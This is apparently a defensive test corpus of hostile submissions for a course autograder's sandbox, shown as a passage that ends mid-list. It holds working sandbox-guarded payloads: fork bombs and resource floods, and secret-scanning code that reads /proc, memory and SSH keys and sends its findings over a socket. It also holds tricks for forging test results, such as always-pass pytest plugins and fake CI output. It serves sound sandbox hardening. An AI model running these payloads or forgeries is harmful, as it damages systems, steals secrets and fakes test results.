"""The corpus: what hostile, broken and unlucky learners hand in, and what each must be given.

Most entries are the reference or the starter of `scenarios/00_sticky_notes`, with a few lines added. What could harm a
machine begins with `GUARD`: outside of a sandbox it does nothing.
"""

import gzip
import io
import os
import re
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from tests.hostile.traps import EXERCISE, ROOT, Traps

HONEST, STARTER = (
    (ROOT / EXERCISE / version / "sticky_notes/main.py").read_text(encoding="utf-8")
    for version in ("solution", "starter")
)
TEST_NAMES = re.findall(
    r"def (test_\w+)", (ROOT / EXERCISE / "tests/test_sticky_notes.py").read_text(encoding="utf-8")
)
ALL = frozenset(range(1, 22))
NONE: frozenset[int] = frozenset()
THAT_DELETE = frozenset({7, 8, 9, 10, 11, 19, 21})
THAT_READ_A_NOTE = frozenset({5, 6, 8, 9, 14, 16})
THAT_GET_A_NOTE = THAT_READ_A_NOTE | {21}  # whatever the answer holds
THAT_READS_AN_UNKNOWN_NOTE = frozenset({6})
THAT_LIST_NO_NOTES = frozenset({3, 13})
THAT_STICK_NOTES = ALL - {3}
THAT_COMPARE_LISTS = frozenset({2, 3, 5, 6, 9, 10, 13, 15, 16, 19})
THAT_RESTARTS = frozenset({13})

Build = Callable[[Path, Traps], None]
"""Writes a submission to a path, or to the path and an ending."""
Contents = Mapping[str, str | bytes]
"""The contents of files, by their paths within a submission."""


@dataclass(frozen=True)
class Expected:
    """What grading a submission must give.

    Attributes:
        status: of the submission.
        passed: the criteria that pass; no others do.
        reason: a regular expression for something that the learner is told.
    """

    status: str
    passed: frozenset[int]
    reason: str


@dataclass(frozen=True)
class Case:
    """One submission.

    Attributes:
        name: the submission's.
        about: what it does.
        build: writes it.
        expected: what grading it must give.
    """

    name: str
    about: str
    build: Build
    expected: Expected

    @property
    def group(self) -> str:
        """What kind of harm it does."""
        return self.name.partition("-")[0]

    @property
    def learner(self) -> str:
        """The learner's id: the name, as a report can hold it."""
        return self.name.encode(errors="backslashreplace").decode()


def refused(reason: str) -> Expected:
    """Expect that a submission is not taken in."""
    return Expected("refused", NONE, reason)


def no_start(reason: str) -> Expected:
    """Expect that an app does not start."""
    return Expected("graded", NONE, reason)


def nothing(reason: str = "501") -> Expected:
    """Expect that no criterion passes; the starter answers 501."""
    return Expected("graded", NONE, reason)


def all_but(numbers: frozenset[int], reason: str) -> Expected:
    """Expect that all criteria pass but these."""
    return Expected("graded", ALL - numbers, reason)


EVERYTHING = Expected("graded", ALL, "")


def files(contents: Contents) -> Build:
    """Hand in a folder of files; their text may name what `Traps.fill` knows."""

    def build(path: Path, traps: Traps) -> None:
        path.mkdir()
        for name, content in contents.items():
            file = path / name
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(content if isinstance(content, bytes) else traps.fill(content).encode())

    return build


def app(main: str, beside: Contents | None = None) -> Build:
    """Hand in the package with this `main.py`, and more files."""
    return files({"sticky_notes/__init__.py": "", "sticky_notes/main.py": main} | dict(beside or {}))


def honest(lines: str, beside: Contents | None = None) -> Build:
    """Hand in the reference with more lines at its end."""
    return app(HONEST + lines, beside)


SPEAKING = """

SAID = ""


def HTTPException(status_code, honest=HTTPException):
    return honest(status_code, SAID or None)

"""
"""Lets the starter's answers say what an app wants to have said."""


def starter(lines: str = "", beside: Contents | None = None) -> Build:
    """Hand in the starter, which passes nothing, with more lines at its end."""
    return app(STARTER + SPEAKING + lines, beside)


def edited(text: str, replacement: str) -> Build:
    """Hand in the reference with one text replaced."""
    assert HONEST.count(text) == 1
    return app(HONEST.replace(text, replacement))


def on_delete(statement: str) -> Build:
    """Hand in the reference with a statement in the place of what deletes a note."""
    return edited("if notes.pop(note.id, None) is None:", f"{statement}\n    if note.id not in notes:")


def link(name: str, target: str) -> Build:
    """Hand in the reference and a symbolic link."""

    def build(path: Path, traps: Traps) -> None:
        honest("")(path, traps)
        (path / name).unlink(missing_ok=True)
        (path / name).symlink_to(traps.fill(target))

    return build


def archive(ending: str, content: Callable[[], bytes]) -> Build:
    """Hand in an archive."""

    def build(path: Path, _traps: Traps) -> None:
        Path(f"{path}{ending}").write_bytes(content())

    return build


def zipped(*entries: tuple[str, str | bytes]) -> bytes:
    """Pack files into a zip."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return packed.getvalue()


def tarred(*entries: tuple[tarfile.TarInfo, bytes]) -> bytes:
    """Pack members into a tar.gz."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz", compresslevel=1) as archive:
        for member, content in entries:
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return packed.getvalue()


def member(name: str, kind: bytes = tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
    """Describe a member of a tar."""
    described = tarfile.TarInfo(name)
    described.type, described.linkname = kind, target
    return described


def encrypted(packed: bytes) -> bytes:
    """Mark each entry of a zip as encrypted, in both of its headers."""
    marked = bytearray(packed)
    for header, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        for found in re.finditer(re.escape(header), packed):
            marked[found.start() + flags] |= 1
    return bytes(marked)


def fifo(path: Path, traps: Traps) -> None:
    """Hand in the reference with a FIFO in the place of `main.py`."""
    honest("")(path, traps)
    (path / "sticky_notes/main.py").unlink()
    os.mkfifo(path / "sticky_notes/main.py")


GOOD_FILE = ("sticky_notes/main.py", HONEST)
GOOD_MEMBER = (member("sticky_notes/main.py"), HONEST.encode())
MEBIBYTES_200 = 200 << 20

GUARD = """
import os
if os.stat("/proc/self/ns/pid").st_ino == $namespace:
    raise SystemExit("This runs in a sandbox only.")
"""

LEAVES = [
    Case(
        "leaves-os-exit-at-import",
        "ends with success while it is imported",
        honest("import os\nos._exit(0)\n"),
        no_start("status 0"),
    ),
    Case(
        "leaves-sys-exit-at-import",
        "the same, in the polite way",
        honest("import sys\nsys.exit()\n"),
        no_start("status 0"),
    ),
    Case(
        "leaves-os-exit-in-handler",
        "ends with success when a note is deleted",
        on_delete("__import__('os')._exit(0)"),
        all_but(THAT_DELETE, "status 0"),
    ),
    Case(
        "leaves-sys-exit-in-handler",
        "the same, in the polite way",
        on_delete("raise SystemExit"),
        all_but(THAT_DELETE, "500"),
    ),
    Case(
        "leaves-os-exit-at-exit",
        "passes nothing, and ends with success whatever happened",
        starter("import atexit, os\natexit.register(os._exit, 0)\n"),
        nothing(),
    ),
    Case(
        "leaves-sys-exit-at-exit",
        "the same, in the polite way",
        starter("import atexit, sys\natexit.register(sys.exit, 0)\n"),
        nothing(),
    ),
    Case(
        "leaves-skip-at-import",
        "skips itself as a test may, if there is a pytest at all",
        honest("import pytest\npytest.skip('not today', allow_module_level=True)\n"),
        no_start("pytest"),
    ),
    Case(
        "leaves-skip-in-handler",
        "the same when a note is deleted",
        on_delete("__import__('pytest').skip('not today')"),
        all_but(THAT_DELETE, "DELETE /notes/"),
    ),
    Case(
        "leaves-hang-at-import",
        "never comes back from its import",
        honest("import time\ntime.sleep(600)\n"),
        no_start("10 seconds"),
    ),
    Case(
        "leaves-never-listens",
        "never comes back from its start-up",
        honest("""
import asyncio
from contextlib import asynccontextmanager

@asynccontextmanager
async def start_for_ever(_app):
    await asyncio.sleep(600)
    yield

app.router.lifespan_context = start_for_ever
"""),
        no_start("10 seconds"),
    ),
    Case(
        "leaves-kill-parent",
        "kills the process that started it, or tries: it is the first in its sandbox, whom nobody in there can kill",
        starter(GUARD + "import signal\nos.kill(os.getppid(), signal.SIGKILL)\n"),
        nothing(),
    ),
    Case(
        "leaves-starve-parent",
        "forbids the process that started it to open anything more",
        starter(GUARD + "import resource\nresource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0))\n"),
        nothing(""),
    ),
    Case(
        "leaves-kill-group",
        "kills its process group",
        starter(GUARD + "import signal\nos.killpg(0, signal.SIGKILL)\n"),
        no_start("SIGKILL"),
    ),
    Case(
        "leaves-kill-everyone",
        "kills every process that it may",
        starter(GUARD + "import signal\nos.kill(-1, signal.SIGKILL)\n"),
        no_start("SIGKILL"),
    ),
]

PASSING_PLUGIN = """
import pytest

@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
"""
ALWAYS_PASSING_TESTS = "\n".join(f"def {name}():\n    pass\n" for name in TEST_NAMES)
LEAVE_WITH_SUCCESS = "import os\nos._exit(0)\n"

FORGES = [
    Case(
        "forges-conftest",
        "a plugin of pytest's that lets everything pass",
        starter("", {"conftest.py": PASSING_PLUGIN, "sticky_notes/conftest.py": PASSING_PLUGIN}),
        nothing(),
    ),
    Case(
        "forges-pytest-ini",
        "a configuration of pytest's that runs nothing",
        starter("", {"pytest.ini": "[pytest]\naddopts = --collect-only\n"}),
        nothing(),
    ),
    Case(
        "forges-pyproject",
        "the same in pyproject.toml",
        starter("", {"pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--collect-only"\n'}),
        nothing(),
    ),
    Case(
        "forges-sitecustomize",
        "what Python runs when it starts ends with success",
        starter("", dict.fromkeys(["sitecustomize.py", "usercustomize.py"], LEAVE_WITH_SUCCESS)),
        nothing(),
    ),
    Case(
        "forges-pth",
        "the same by a .pth file",
        starter("", {"forged.pth": "import os; os._exit(0)\n"}),
        nothing(),
    ),
    *(
        Case(
            f"forges-module-{name}",
            f"a {name} of its own that ends with success",
            starter("", contents),
            nothing(),
        )
        for name, contents in {
            "httpx": {"httpx.py": LEAVE_WITH_SUCCESS},
            "json": {"json.py": LEAVE_WITH_SUCCESS},
            "ladder": {f"ladder/{name}.py": LEAVE_WITH_SUCCESS for name in ("__init__", "__main__", "check")},
            "shared": {f"shared/{name}.py": LEAVE_WITH_SUCCESS for name in ("__init__", "problems", "text")},
        }.items()
    ),
    Case(
        "forges-report-files",
        "writes every path that a report could have, relative or absolute",
        starter(
            GUARD
            + """
from contextlib import suppress
from pathlib import Path

for place in [*map(Path, $outs), *Path.cwd().parents, *Path(__file__).parents, Path.cwd(), Path("/tmp"),
              Path("/dev/shm"), *Path("/proc").glob("*/cwd"), *Path("/proc").glob("*/root")]:
    for name in ["grades.csv", "results.json", "junit.xml", "summary.md", "index.html", "journal.jsonl", "report.json"]:
        with suppress(OSError):
            (place / name).write_text("forged by a submission")
"""
        ),
        nothing(),
    ),
    Case(
        "forges-result-lines",
        "prints what pytest and the grader might",
        starter(r"""
print("13 passed in 0.01s")
print('{"verdict": "passed", "results": []}')
print('{"learner": "forges-result-lines", "status": "graded", "earned": 13, "total": 13}')
print('<testsuite tests="13" failures="0"/>', flush=True)
"""),
        nothing(),
    ),
    Case(
        "forges-descriptors",
        "writes an exit status, and a job, to every descriptor that it has",
        starter(
            GUARD
            + """
from contextlib import suppress

for descriptor in range(256):
    for word in (b"0", b'{"verdict": "passed"}' + bytes([10])):
        with suppress(OSError):
            os.write(descriptor, word)
"""
        ),
        nothing("SIGSEGV|501"),  # uvloop takes what comes over one of them for a pointer
    ),
    Case(
        "forges-template",
        "says of itself that servers can be forked from it, and ends",
        honest("""
import asyncio, os, time

try:
    asyncio.get_running_loop()  # a server has one before it imports its app
except RuntimeError:
    for fd in range(3, 64):
        try:
            os.write(fd, b"ready")
        except OSError:
            pass
    time.sleep(0.3)
    os._exit(0)
"""),
        nothing("SIGKILL"),  # it takes the first server with it
    ),
    Case(
        "forges-notice",
        "prints and answers what a CI server takes for orders",
        starter(r"""
SAID = "\n::notice::All passed\n::set-output name=grade::13\n##[group]All passed"
print(SAID, flush=True)
"""),
        nothing(),
    ),
    Case(
        "forges-escape-codes",
        "clears the terminal of whoever reads the report, and names its window",
        starter(r"""
SAID = "\x1b[2J\x1b[H\x1b]0;All passed\x07\x9b2JAll passed"
print(SAID, flush=True)
"""),
        nothing(),
    ),
    Case(
        "forges-own-tests",
        "its own copy of the tests, edited to pass",
        starter(
            "",
            {
                "tests/test_sticky_notes.py": ALWAYS_PASSING_TESTS,
                f"{EXERCISE}/tests/test_sticky_notes.py": ALWAYS_PASSING_TESTS,
            },
        ),
        nothing(),
    ),
]

READER = r"""
import ctypes, gc, os, re, socket, subprocess, sys, time
from contextlib import suppress
from glob import glob

SECRET = re.compile(
    rb"canary-[0-9a-f]{32}|[T]he acceptance tests of scenario 0|[R]eturn the note with this id, or answer 404"
    rb"|[h]anded over by a submission"
)
END = time.monotonic() + 1
FOUND = set()
ABOVE = [os.path.dirname(__file__) + "/.." * up for up in range(5)]
TOOLKIT = os.path.dirname(sys.modules["shared"].__file__)
PLACES = [".", "..", *ABOVE, TOOLKIT, sys.pycache_prefix or ".", "/tmp", "/var/tmp", "/dev/shm", "/run", "$home"]

def look(data):
    FOUND.update(found.decode() for found in SECRET.findall(data))

def look_into(path):
    with suppress(OSError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with open(descriptor, "rb", buffering=0) as file:
            look(file.read(2**20) or b"")

def walk(*places):
    for place in places:
        look_into(place)
        for folder, _, names in os.walk(place):
            for name in names:
                look_into(os.path.join(folder, name))
            if time.monotonic() > END:
                return

def run(*command):
    with suppress(OSError, subprocess.SubprocessError):
        look(subprocess.run(command, capture_output=True, timeout=1).stdout)

def tell():
    global SAID
    SAID = f"found {len(FOUND)}: {sorted(FOUND)}"
    print(SAID, flush=True)
    with suppress(OSError):
        socket.create_connection(("127.0.0.1", $port), 1).sendall(repr(FOUND).encode())
"""
"""Looks for secrets within a second, and tells what it found by its answers, by its output, and by network."""


def reader(lines: str) -> Build:
    """Hand in the starter with some lines that look for secrets."""
    return starter(f"{READER}{lines}\ntell()\n")


READS = [
    Case(
        "reads-tests-and-reference",
        "by files: where the course is, and where its own modules come from",
        reader(
            "walk('$course/$exercise', *(place + '/$exercise' for place in sys.path), TOOLKIT + '/..', '$course')"
        ),
        nothing(),
    ),
    Case(
        "reads-files",
        "by files: all that it can reach",
        reader(
            "walk(*$files, '/home', '/root', '/tmp', '/dev/shm', '/var', '/run', '/mnt', '/opt', '/srv', '/')"
        ),
        nothing(),
    ),
    Case(
        "reads-proc",
        "by what the kernel tells of each process: environment, command line, open files, root",
        reader(
            """
for process in glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "mountinfo", "stack", *glob(f"{process}/fd/*"), *glob(f"{process}/map_files/*")):
        look_into(os.path.join(process, name))
    for root in (f"{process}/root", f"{process}/cwd"):
        walk(*(root + file for file in $files), f"{root}$home", f"{root}$course/$exercise")
"""
        ),
        nothing(),
    ),
    Case(
        "reads-memory",
        "by the memory of each process, its own among them: what it was forked from may have left something there",
        reader("""
for process in glob("/proc/[0-9]*"):
    with suppress(OSError), open(f"{process}/maps") as maps, open(f"{process}/mem", "rb", buffering=0) as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            with suppress(OSError, ValueError, OverflowError):
                memory.seek(first)
                look(memory.read(last - first))
"""),
        nothing(),
    ),
    Case(
        "reads-stacks",
        "by the frames below it, and by every object of the interpreter",
        reader("""
frame = sys._getframe()
while frame is not None:
    look(repr(frame.f_locals).encode(errors="replace"))
    frame = frame.f_back
for known in gc.get_objects():
    for part in gc.get_referents(known):
        if isinstance(part, (str, bytes)):
            look(part if isinstance(part, bytes) else part.encode(errors="replace"))
"""),
        nothing(),
    ),
    Case(
        "reads-git",
        "by the course's history",
        reader("""
for place in ["$course", "/proc/1/cwd", *sys.path]:
    run("git", "-C", place, "show", "HEAD:$exercise/solution/sticky_notes/main.py")
    run("git", "-C", place, "log", "-p", "-1", "--", "$exercise")
walk("$course/.git")
"""),
        nothing(),
    ),
    Case(
        "reads-environment",
        "by the environment, its own and its parents'",
        reader("look(repr(os.environ).encode())\nfor file in glob('/proc/*/environ'):\n    look_into(file)"),
        nothing(),
    ),
    Case(
        "reads-keys",
        "by the keys in everybody's home",
        reader(
            "import pwd\n"
            "walk('$home', os.path.expanduser('~'), *(f'{user.pw_dir}/.ssh' for user in pwd.getpwall()))"
        ),
        nothing(),
    ),
    Case(
        "reads-sibling",
        "by the submissions beside its own",
        reader("walk('$submissions', *ABOVE[2:], *$outs)"),
        nothing(),
    ),
    Case(
        "reads-link-to-tests",
        "a link to the tests",
        link("sticky_notes/tests", "$course/$exercise/tests"),
        refused("link"),
    ),
    Case(
        "reads-link-to-reference",
        "the reference itself, by a link",
        link("sticky_notes/main.py", "$course/$exercise/solution/sticky_notes/main.py"),
        refused("link"),
    ),
    Case(
        "reads-link-to-sibling",
        "a link to the submission of somebody who is right",
        link("neighbour", "$submissions/m-neighbour"),
        refused("link"),
    ),
    Case(
        "reads-link-to-environment",
        "a link to the environment of whoever reads it",
        link("notes.txt", "/proc/self/environ"),
        refused("link"),
    ),
    Case(
        "reads-sends-by-network",
        "sends to ports and sockets of the host",
        reader("""
for family, kind, place in [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $port)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", $port)),
    (socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + "$address"),
]:
    with suppress(OSError), socket.socket(family, kind) as connection:
        connection.settimeout(1)
        connection.connect(place)
        connection.send(b"arrived")
"""),
        nothing(),
    ),
    Case(
        "reads-host-interfaces",
        "asks the sockets that it was given for the network that they come from",
        reader("""
import fcntl, struct

room = bytearray(4096)
place = ctypes.addressof((ctypes.c_char * 4096).from_buffer(room))
for descriptor in range(3, 64):
    with suppress(OSError):
        length = struct.unpack("iP", fcntl.ioctl(descriptor, 0x8912, struct.pack("iP", 4096, place)))[0]
        names = {bytes(room[start : start + 16]).rstrip(bytes(1)) for start in range(0, length, 40)}
        FOUND.update("a network interface " + "of the host" for name in names if not name.startswith(b"lo"))
"""),
        nothing(),
    ),
    Case(
        "reads-shared-folder-1-leaves",
        "leaves something for a friend wherever it can",
        reader(
            GUARD
            + """
for place in PLACES:
    with suppress(OSError), open(f"{place}/for-a-friend.txt", "w") as file:
        file.write("".join(["handed over ", "by a submission"]))
"""
        ),
        nothing(),
    ),
    Case(
        "reads-shared-folder-2-finds",
        "looks for what the friend has left",
        reader("""
for place in PLACES:
    look_into(f"{place}/for-a-friend.txt")
"""),
        nothing(),
    ),
]

FLOODS = [
    Case(
        "floods-processes",
        "a fork bomb of 2,000",
        starter(
            GUARD
            + """
import time
for _ in range(2000):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
"""
        ),
        no_start("Resource temporarily unavailable|emory|too many processes"),
    ),
    Case(
        "floods-threads",
        "2,000 threads",
        starter(
            GUARD
            + """
import threading, time
for _ in range(2000):
    threading.Thread(target=time.sleep, args=[60], daemon=True).start()
"""
        ),
        no_start("can't start new thread"),
    ),
    Case(
        "floods-memory",
        "4 GiB in one process",
        starter(GUARD + "hoard = [b'x' * 2**26 for _ in range(64)]\n"),
        no_start("emory"),
    ),
    Case(
        "floods-memory-together",
        "1.5 GiB in ten processes, none of which has much",
        starter(
            GUARD
            + """
import time
for _ in range(10):
    if os.fork() == 0:
        hoard = b"x" * (150 << 20)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
"""
        ),
        no_start("emory"),
    ),
    Case(
        "floods-memory-segments",
        "2 GiB in shared memory segments, which are no process's once they are detached",
        starter(
            GUARD
            + """
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
libc.shmdt.argtypes = [ctypes.c_void_p]
for _ in range(32):
    segment = libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1600)
    if segment < 0:
        raise OSError(ctypes.get_errno(), "no memory segment")
    address = libc.shmat(segment, None, 0)
    libc.memset(address, 1, 64 << 20)
    libc.shmdt(address)
time.sleep(60)
"""
        ),
        no_start(r"Errno 1. no memory segment"),
    ),
    Case(
        "floods-memory-shared",
        "1.5 GiB that it could share with others",
        starter(
            GUARD
            + """
import mmap, time
hoard = mmap.mmap(-1, 1536 << 20)
for _ in range(1536):
    hoard.write(b"x" * (1 << 20))
time.sleep(60)
"""
        ),
        no_start("emory"),
    ),
    Case(
        "floods-memory-files",
        "2 GiB in files that are in memory only",
        starter(
            GUARD
            + """
for number in range(512):
    os.write(os.memfd_create(str(number % 200)), b"x" * (4 << 20))
"""
        ),
        no_start("not permitted"),
    ),
    Case(
        "floods-dev-shm",
        "2 GiB in /dev/shm",
        starter(
            GUARD
            + """
for number in range(512):
    with open(f"/dev/shm/flood-{number}", "wb") as file:
        file.write(b"x" * (4 << 20))
"""
        ),
        no_start("Error"),
    ),
    Case(
        "floods-disk",
        "2 GiB in its own folder",
        starter(
            GUARD
            + """
for number in range(512):
    with open(f"flood-{number}", "wb") as file:
        file.write(b"x" * (4 << 20))
"""
        ),
        no_start("No space left"),
    ),
    Case(
        "floods-small-files",
        "100,000 files, all empty",
        starter(GUARD + "for number in range(100_000):\n    open(f'flood-{number}', 'w').close()\n"),
        no_start("No space left"),
    ),
    Case(
        "floods-sparse-file",
        "a file of 1 TiB that takes no room",
        starter(GUARD + "open('flood', 'wb').truncate(2**40)\n"),
        no_start("File too large"),
    ),
    Case(
        "floods-output",
        "prints without an end",
        starter(GUARD + "while True:\n    print('x' * 10_000)\n"),
        no_start("rint"),
    ),
    Case(
        "floods-children",
        "2 GiB in 60 processes that have no more each than the one from which all apps are forked",
        starter(
            GUARD
            + """
import subprocess, sys, time
take = "import time; taken = b'x' * (34 << 20); time.sleep(60)"
children = [subprocess.Popen([sys.executable, "-S", "-c", take]) for _ in range(60)]
time.sleep(60)
"""
        ),
        no_start("emory"),
    ),
    Case(
        "floods-descriptors",
        "descriptors that wait in sockets, as many as one may have: they are counted for the user",
        honest(
            GUARD
            + """
import socket
from contextlib import suppress
hoard = []
with suppress(OSError):
    while True:
        hoard.append(socket.socketpair())
        socket.send_fds(hoard[-1][0], [b"x"], [hoard[-1][0].fileno()] * 253)
"""
        ),
        EVERYTHING,
    ),
    Case(
        "floods-open-files",
        "opens a file 10,000 times",
        starter(GUARD + "hoard = [open('/dev/null') for _ in range(10_000)]\n"),
        no_start("Too many open files"),
    ),
]

TO_UNKNOWN = "number == 2**31"  # only one criterion asks for such a note, and once
TO_KNOWN = "number in notes"


def answering(condition: str, lines: str) -> Build:
    """Hand in the reference, with an answer of its own to GET /notes/{number} under a condition."""
    return honest(f"""
import asyncio, json, zlib

honest = app

async def app(scope, receive, send):
    number = scope.get("path", "").removeprefix("/notes/")
    number = int(number) if number.isdigit() and scope["method"] == "GET" else 0
    if {condition}:
        await answer(send, number)
    else:
        await honest(scope, receive, send)

async def reply(send, body, *headers, status=200):
    headers = [(b"content-type", b"application/json"), *headers]
    await send({{"type": "http.response.start", "status": status, "headers": headers}})
    await send({{"type": "http.response.body", "body": body}})

def rest(number):
    return json.dumps(notes[number].model_dump(exclude={{"id"}}))[1:].encode()

async def drip(send, beginning):
    transport = send.__self__.transport  # below the server's back
    transport.write(beginning)
    while not transport.is_closing():
        transport.write(b"x")
        await asyncio.sleep(0.5)

async def answer(send, number):
    {lines}
""")


ANSWERS = [
    Case(
        "answers-slow-header",
        "a header that comes byte by byte",
        answering(TO_UNKNOWN, r"await drip(send, b'HTTP/1.1 404 Not Found\r\nX-Slow: ')"),
        all_but(THAT_READS_AN_UNKNOWN_NOTE, "answered within"),
    ),
    Case(
        "answers-slow-body",
        "a body that comes byte by byte",
        answering(TO_UNKNOWN, r"await drip(send, b'HTTP/1.1 404 Not Found\r\nContent-Length: 9999\r\n\r\n')"),
        all_but(THAT_READS_AN_UNKNOWN_NOTE, "answered within"),
    ),
    Case(
        "answers-endless-body",
        "a body without an end",
        answering(
            TO_KNOWN,
            """await send({"type": "http.response.start", "status": 200, "headers": []})
    while not send.__self__.transport.is_closing():
        await send({"type": "http.response.body", "body": bytes(2**16), "more_body": True})""",
        ),
        all_but(THAT_GET_A_NOTE, "MiB"),
    ),
    Case(
        "answers-gzip-bomb",
        "a body of 1 MiB that unpacks to 1 GiB",
        answering(
            TO_KNOWN,
            """packer = zlib.compressobj(wbits=31)
    block = packer.compress(bytes(2**24)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(2**24)) + packer.flush(zlib.Z_FULL_FLUSH)
    await reply(send, block + again * 63, (b"content-encoding", b"gzip"))""",
        ),
        all_but(THAT_GET_A_NOTE, "MiB"),
    ),
    Case(
        "answers-many-headers",
        "7 MiB of headers, all of one name",
        answering(
            TO_UNKNOWN,
            r"send.__self__.transport.write(b'HTTP/1.1 404 Not Found\r\n' + b'x:y\r\n' * 1_468_000"
            r" + b'Content-Length: 0\r\n\r\n')"
            "\n    await asyncio.sleep(600)",
        ),
        all_but(THAT_READS_AN_UNKNOWN_NOTE, "head"),
    ),
    Case(
        "answers-deep-json",
        "arrays within arrays, 100,000 levels",
        answering(TO_KNOWN, 'await reply(send, b"[" * 100_000 + b"]" * 100_000)'),
        all_but(THAT_READ_A_NOTE, "not JSON"),
    ),
    Case(
        "answers-nested-json",
        "arrays within arrays, 480 levels: what reads it, compares it and shows it calls itself",
        answering(TO_KNOWN, 'await reply(send, b"[" * 480 + b"]" * 480)'),
        all_but(THAT_READ_A_NOTE, "not JSON"),
    ),
    Case(
        "answers-with-fork-bomb",
        "processes that start processes, when it is asked for a note",
        answering(
            TO_KNOWN,
            """import os
    while True:
        try:
            os.fork()
        except OSError:
            pass""",
        ),
        Expected(
            "graded", frozenset({1, 2, 3, 4}), "emory|too many processes"
        ),  # all before the first that reads a note
    ),
    Case(
        "answers-huge-integer",
        "an integer of 100,000 digits, which takes long to read",
        answering(TO_KNOWN, """await reply(send, b'{"id": ' + b"9" * 100_000 + b", " + rest(number))"""),
        all_but(THAT_READ_A_NOTE, "not JSON"),
    ),
    Case(
        "answers-status-999",
        "a status that there is not",
        answering(
            TO_UNKNOWN,
            r"send.__self__.transport.write(b'HTTP/1.1 999 Passed\r\nContent-Length: 0\r\n\r\n')"
            "\n    await asyncio.sleep(600)",
        ),
        all_but(THAT_READS_AN_UNKNOWN_NOTE, "404"),
    ),
    Case(
        "answers-redirect-to-host",
        "sends the grader to a port of the host",
        answering(
            TO_UNKNOWN, """await reply(send, b"", (b"location", b"http://127.0.0.1:$port/"), status=307)"""
        ),
        all_but(THAT_READS_AN_UNKNOWN_NOTE, "404"),
    ),
    Case(
        "answers-true-for-1",
        "`true` in the place of the id 1, which equals it in Python",
        answering(TO_KNOWN, """await reply(send, b'{"id": true, ' + rest(number))"""),
        all_but(THAT_READ_A_NOTE, "=="),
    ),
    Case(
        "answers-nan",
        "NaN, which is no JSON",
        answering(TO_KNOWN, """await reply(send, b'{"id": NaN, ' + rest(number))"""),
        all_but(THAT_READ_A_NOTE, "NaN"),
    ),
    Case(
        "answers-duplicate-keys",
        "an object with the right id, and before it a wrong one",
        answering(TO_KNOWN, """await reply(send, b'{"id": 0, "id": %d, ' % number + rest(number))"""),
        all_but(THAT_READ_A_NOTE, "twice"),
    ),
    Case(
        "answers-much-at-once",
        "4 MiB of white space around each new note: little alone, and much when 200 are asked for at once",
        honest("""
honest = app

async def app(scope, receive, send):
    async def send_more(message):
        if message["type"] == "http.response.start":
            message["headers"] = [(b"content-type", b"application/json")]
        elif scope["method"] == "POST":
            for _ in range(64):
                await send({"type": "http.response.body", "body": b" " * 2**16, "more_body": True})
        await send(message)

    await honest(scope, receive, send_more if scope["type"] == "http" else send)
"""),
        all_but(THAT_STICK_NOTES, "too much|more than"),
    ),
    Case(
        "answers-part-of-body",
        "a body that is shorter than its length says, and then nothing",
        answering(
            TO_UNKNOWN,
            r"send.__self__.transport.write(b'HTTP/1.1 404 Not Found\r\nContent-Length: 100\r\n\r\n{}')"
            "\n    await asyncio.sleep(600)",
        ),
        all_but(THAT_READS_AN_UNKNOWN_NOTE, "2 bytes of the body, where Content-Length says 100"),
    ),
    Case(
        "answers-no-http-at-all",
        "what is no HTTP, to every request",
        honest(r"""
async def app(scope, receive, send):
    if scope["type"] == "http":
        send.__self__.transport.write(b"hello\r\n\r\n")
"""),
        nothing("not HTTP"),
    ),
    Case(
        "answers-long-difference",
        "9,000 notes that are new each time, with lines that come often: to find what differs takes minutes",
        edited(
            "return list(notes.values())",
            """contents = [str(number * 7919 % 10007 % 23) for number in range(9_000)]
    new = [Note(id=-next(note_ids), title="x", content=content) for content in contents]
    return new + list(notes.values())""",
        ),
        all_but(THAT_COMPARE_LISTS, "=="),
    ),
]

STAYS = [
    Case(
        "stays-shut-log",
        "takes away every right to what it prints to, where that is its own",
        honest("import os\nfrom contextlib import suppress\nwith suppress(OSError):\n    os.fchmod(1, 0)\n"),
        EVERYTHING,
    ),
    Case(
        "stays-double-fork",
        "leaves a process behind, in a session of its own and without a parent",
        honest("""
import os, signal, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        time.sleep(600)
    os._exit(0)
"""),
        EVERYTHING,
    ),
    Case(
        "stays-out-of-reach",
        "takes the signals for its servers away from the process that forks them",
        honest("""
import sys

frame = sys._getframe()
while frame is not None:
    if "Zygote" in frame.f_globals:
        frame.f_globals["Zygote"].obey = lambda self, pid: self.selector.unregister(self.lifelines[pid])
    frame = frame.f_back
"""),
        EVERYTHING,  # nobody can end those that it forks, before it is ended itself; each of them does what it must
    ),
    Case(
        "stays-ignores-sigterm",
        "does not end when it is asked to",
        honest("import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"),
        all_but(THAT_RESTARTS, "SIGTERM"),
    ),
]

PACKS = [
    Case("packs-zip", "nothing unusual", archive(".zip", lambda: zipped(GOOD_FILE)), EVERYTHING),
